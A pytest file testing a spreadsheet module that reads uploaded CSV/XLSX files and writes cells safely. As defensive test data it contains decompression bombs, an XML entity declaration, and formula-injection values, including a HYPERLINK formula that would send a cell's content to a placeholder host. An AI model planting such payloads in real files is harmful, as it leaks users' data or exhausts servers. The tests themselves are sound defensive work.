"""core.tables: the one reader of uploaded CSV/XLSX (encodings, delimiters, dates, limits before
parsing) and the one writer of cells (never a formula, never a crash on a control character)."""

import csv
import io
from datetime import date, datetime

import openpyxl
import pytest
from tests.spreadsheets import (
    dimension_bomb,
    many_lines_csv,
    shared_strings_bomb,
    within_budget,
    xlsx_bytes,
    zip_bomb,
)

from sinergi.core import tables
from sinergi.core.tables import TableRefused


def rows(data: bytes, **limits) -> list:
    return list(tables.read_rows(io.BytesIO(data), tables.limits(**limits), "berkas"))


# --- CSV: encodings and delimiters -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ("nama,kota\nÁni,Palembang\n".encode(), ["Áni", "Palembang"]),
        (b"\xef\xbb\xbfnama;kota\nAni;Palembang\n", ["Ani", "Palembang"]),
        (b"nama\tkota\nAni\tPalembang\n", ["Ani", "Palembang"]),
        # Excel on Windows: "CSV (Comma delimited)" is Windows-1252.
        ("nama;kota\nJosé;Sorong – Kota\n".encode("cp1252"), ["José", "Sorong – Kota"]),
    ],
)
def test_csv_encodings_and_delimiters(data, expected):
    assert rows(data)[1] == (2, expected)


def test_the_delimiter_is_the_one_that_splits_the_header_most():
    # A comma inside a column name does not make the file comma-separated.
    assert rows(b"nama;alamat, kota;telepon\nAni;Jl. A, Palembang;0812\n")[1][1] == [
        "Ani",
        "Jl. A, Palembang",
        "0812",
    ]


def test_utf16_and_binary_files_are_refused_with_a_way_out():
    for data in ("nama,kota\n".encode("utf-16"), b"\x89PNG\r\n\x1a\n\x00\x00"):
        with pytest.raises(TableRefused, match="Simpan ulang sebagai CSV UTF-8 atau XLSX"):
            rows(data)


def test_a_bom_that_lies_is_refused_with_the_line():
    with pytest.raises(TableRefused, match="bukan teks UTF-8 \\(sekitar baris 2\\)"):
        rows(b"\xef\xbb\xbfnama\n\xff\xfe\n")


# --- Dates: one policy ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "2021-12-20",
        "20-12-2021",
        "20/12/2021",
        "20.12.2021",
        "20.12.2021 00:00",
        "2021-12-20 00:00:00",
        "2021-12-20T08:30",
        datetime(2021, 12, 20, 8, 30),
        date(2021, 12, 20),
        44550,  # an Excel serial in a cell not formatted as a date
        44550.75,
    ],
)
def test_every_accepted_date_form(value):
    assert tables.parse_date(value) == date(2021, 12, 20)


@pytest.mark.parametrize(
    "value",
    ["12/20/2021", "20-12/2021", "20-12-21", "31-02-2021", "20122021", "kemarin", "", None, True, 2021],
)
def test_refused_date_forms(value):
    # Month first, mixed separators, two-digit years, impossible days and bare years are not dates.
    assert tables.parse_date(value) is None


# --- Limits, checked before parsing ------------------------------------------------------------------


def test_shared_strings_bomb_is_refused_before_openpyxl_opens_it(no_xlsx_parsing):
    data = shared_strings_bomb(["nik", "nama"])
    assert len(data) < 100_000  # 55 KB on disk, 1.2 million texts inside
    with within_budget(peak_mb=20, cpu_seconds=5), pytest.raises(TableRefused, match="teks berbeda"):
        rows(data)


def test_zip_bomb_is_refused_from_the_zip_directory(no_xlsx_parsing):
    data = zip_bomb(["nik"], unpacked_mb=40)
    assert len(data) < 100_000
    with within_budget(peak_mb=5), pytest.raises(TableRefused, match="lebih dari 16 MB setelah dibuka"):
        rows(data, max_unpacked_bytes=16 * 1024 * 1024)


def test_a_declared_size_that_lies_costs_no_more_than_the_declared_size(no_xlsx_parsing):
    """Decompression stops at the declared size (the CRC then fails), and the streaming cap counts
    real bytes whatever the directory says: a small declared size never hides a big member."""
    import struct
    import zipfile

    data = bytearray(zip_bomb(["nik"], unpacked_mb=20))

    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    real = struct.pack("<I", info.file_size)
    assert data.count(real) >= 2
    lying = bytes(data).replace(real, struct.pack("<I", 1024))  # local header and directory say 1 KB
    with within_budget(peak_mb=10, cpu_seconds=2), pytest.raises(TableRefused, match="bukan berkas Excel"):
        rows(lying, max_member_bytes=8 * 1024 * 1024)


def test_a_sheet_claiming_a_million_rows_is_refused_before_parsing(no_xlsx_parsing):
    with within_budget(peak_mb=5), pytest.raises(TableRefused, match="lebih dari 200.000 baris data"):
        rows(dimension_bomb(["nik", "nama"]))


def test_a_wide_row_is_refused_while_reading():
    wb = openpyxl.Workbook()
    wb.active["A1"] = "nik"
    wb.active.cell(row=2, column=5000, value="jauh")
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(TableRefused, match="lebih dari 256 kolom"):
        rows(out.getvalue())


def test_an_entity_declaration_is_refused(no_xlsx_parsing):
    base = xlsx_bytes([["nik"]])
    from tests.spreadsheets import _replaced

    laughs = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><sst/>'
    with pytest.raises(TableRefused, match="DTD"):
        rows(_replaced(base, {"xl/sharedStrings.xml": laughs}))


def test_csv_over_the_row_limit_is_refused_before_parsing(monkeypatch):
    monkeypatch.setattr(csv, "reader", lambda *a, **k: pytest.fail("the CSV was parsed"))
    data = many_lines_csv(["nik"], 250_000)
    assert len(data) < 600_000
    with within_budget(peak_mb=10), pytest.raises(TableRefused, match="lebih dari 200.000 baris data"):
        rows(data)


def test_csv_field_and_size_limits():
    with pytest.raises(TableRefused, match="sel di baris 2 lebih dari 32.767 karakter"):
        rows(b"nama\n" + b"a" * 40_000 + b"\n")
    with pytest.raises(TableRefused, match="ukurannya lebih dari 1 MB"):
        rows(b"nama\n" + b"a,b\n" * 300_000, max_bytes=1024 * 1024)


def test_the_deadline_ends_a_long_read():
    with pytest.raises(TableRefused, match="melebihi batas waktu"):
        rows(b"nama\n" + b"a\n" * 1000, max_seconds=-1)


def test_limits_narrowed_for_one_import():
    lim = tables.limits().with_rows(5000)
    assert lim.max_rows == 5000 and lim.max_cells == tables.limits().max_cells


# --- Writing ----------------------------------------------------------------------------------------


def test_xlsx_cells_are_never_formulas_and_keep_their_types():
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("x")
    ws.append(
        tables.xlsx_row(ws, ['=HYPERLINK("http://contoh.id/?"&A2,"klik")', "+62812", "@SUM(A1)", -5, 2.5])
    )
    ws.append(tables.xlsx_row(ws, ["Judul\x07dengan bel\x00", date(2021, 12, 20)], date_format="DD-MM-YYYY"))
    out = io.BytesIO()
    wb.save(out)
    read = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["x"]
    first = [c for c in read[1]]
    assert [c.data_type for c in first] == ["s", "s", "s", "n", "n"]
    assert first[0].value.startswith("=HYPERLINK") and first[3].value == -5
    assert read["A2"].value == "Juduldengan bel"  # what XML cannot hold is dropped, not a crash
    assert read["B2"].is_date and read["B2"].number_format == "DD-MM-YYYY"


def test_csv_fields_behind_a_quote_when_they_look_like_a_formula():
    assert [tables.csv_field(v) for v in ["=1+1", "-tipu", "@x", "\tx", "\rx", "biasa", -5, 2.5, None]] == [
        "'=1+1",
        "'-tipu",
        "'@x",
        "'\tx",
        "'\rx",
        "biasa",
        "-5",
        "2.5",
        "",
    ]
    assert tables.csv_field(date(2021, 12, 20)) == "2021-12-20"
